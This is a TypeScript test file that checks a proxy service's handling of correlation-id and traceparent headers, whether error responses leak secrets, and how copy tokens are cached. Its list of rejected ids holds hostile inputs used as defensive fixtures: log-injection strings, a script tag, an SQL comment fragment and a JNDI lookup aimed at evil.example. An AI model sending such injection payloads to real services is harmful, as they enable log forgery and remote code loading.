import { expect, it } from 'vitest';
import { expectGranted, listRows, readLog, unlimited } from '../support/abuse.ts';
import { sendChanged } from '../support/send-changed.ts';
import { startStack } from '../support/stack.ts';
import { authorizeCopy, putJob, readItem } from '../support/valid-requests.ts';
import { type SecretContent, secretRequests } from './canary-bodies.ts';
import { CANARY } from './canary-forms.ts';

const stack = await startStack({ settings: unlimited });

const badIds = [
  'a%0a{"level":"error"}',
  'x'.repeat(5 * 1024),
  'x'.repeat(129),
  'with blanks',
  '{"level":"error"}',
  '<script>',
  "';--",
  '%24{jndi:ldap://evil.example}',
  'a\tb',
  'ümlaut',
];

it('A61 a well-formed correlation id is relayed, any other replaced', async () => {
  for (const id of ['b3f1c0de-0000-4000-8000-000000000001', 'a.b_c-1', ...badIds]) {
    const isGood = /^[\w.-]{1,128}$/.test(id);
    await stack.upstream.reset();
    const logged = stack.log.length;
    const bytes = Buffer.from(id).toString('latin1');
    const response = await sendChanged(stack, readItem, { headers: { 'x-ms-client-request-id': bytes } });
    // The host refuses some before anyone sees them: control characters that are no tab.
    if (response.text === '' && response.status === 400) continue;
    const records = stack.log.slice(logged);
    expect(records, id).toHaveLength(1);
    expect(readLog(stack, logged).includes(JSON.stringify(id).slice(1, -1)), id).toBe(isGood);
    const [call] = await stack.upstream.calls();
    const sentUp = call?.headers['x-ms-client-request-id'];
    expect(sentUp === id, id).toBe(isGood);
    expect(sentUp).toMatch(/^[\w.-]{1,128}$/);
    expect(JSON.stringify(response.headers).includes('level'), id).toBe(false);
  }
});

const traceId = '0af7651916cd43dd8448eb211c80319c';
const badTraces = [
  `00-${traceId}`,
  `00-${'0'.repeat(32)}-b7ad6b7169203331-01`,
  `00-${traceId}-${'0'.repeat(16)}-01`,
  `ff-${traceId}-b7ad6b7169203331-01`,
  `00-${traceId.toUpperCase()}-b7ad6b7169203331-01`,
  `00-${traceId}-b7ad6b7169203331-01-{"level":"error"}`,
  '00-../../x-b7ad6b7169203331-01',
  'x'.repeat(2_000),
];

it('A61 an invalid traceparent is neither logged nor relayed', async () => {
  for (const traceparent of badTraces) {
    await stack.upstream.reset();
    const logged = stack.log.length;
    await sendChanged(stack, readItem, { headers: { traceparent, tracestate: 'canary=1' } });
    const said = readLog(stack, logged) + JSON.stringify((await stack.upstream.calls()).map(({ headers }) => headers));
    expect(stack.log).toHaveLength(logged + 1);
    expect(said).not.toContain(traceparent);
    expect(said).not.toMatch(/level|canary/);
  }
});

it('A61 no correlation id is taken from a header that is not specified', async () => {
  await stack.upstream.reset();
  const logged = stack.log.length;
  const names =
    'x-correlation-id x-request-id request-id x-ms-request-id x-ms-correlation-request-id x-amzn-trace-id'.split(' ');
  await sendChanged(stack, readItem, { headers: Object.fromEntries(names.map((name) => [name, 'canary'])) });
  const calls = await stack.upstream.calls();
  expect(calls).toHaveLength(1);
  expect(readLog(stack, logged) + JSON.stringify(calls)).not.toContain('canary');
});

// What becomes of the secrets of a request: canaries.test.ts.
const jobWithSecrets = secretRequests.find(({ name }) => name === putJob.operation)?.fill(0) as SecretContent;

it('A62 a refusal of Frontdesk’s own repeats no secret', async () => {
  const logged = stack.log.length;
  const { body } = jobWithSecrets;
  const wrong = { ...body, location: 5, tags: { a: 5 } };
  const responses = [
    await sendChanged(stack, putJob, { body: wrong }),
    await sendChanged(stack, putJob, { body: JSON.stringify(body).slice(0, -1) }),
    await sendChanged(stack, putJob, { body, query: '?api-version=1' }),
    await sendChanged(stack, putJob, { body: JSON.stringify(body).replace('"apiKey"', '"name":1,"name":2,"apiKey"') }),
  ];
  expect(responses.map(({ status }) => status)).toEqual([400, 400, 400, 400]);
  expect(responses.map(({ text }) => text).join() + readLog(stack, logged)).not.toContain(CANARY);
});

it('A63 the copy token is only in its response, which says no-store', async () => {
  await stack.upstream.reset();
  const logged = stack.log.length;
  const rows = await listRows(stack);
  const response = await expectGranted(stack, authorizeCopy);
  const { accessToken } = response.json;
  expect(accessToken).toMatch(/^.{20,}$/);
  expect(response.headers).toMatchObject({ 'cache-control': 'no-store' });
  expect(JSON.stringify(response.headers) + readLog(stack, logged)).not.toContain(accessToken);
  expect(await listRows(stack)).toEqual(rows);
  const again = await expectGranted(stack, authorizeCopy);
  expect(again.json.accessToken).not.toBe(accessToken);
});
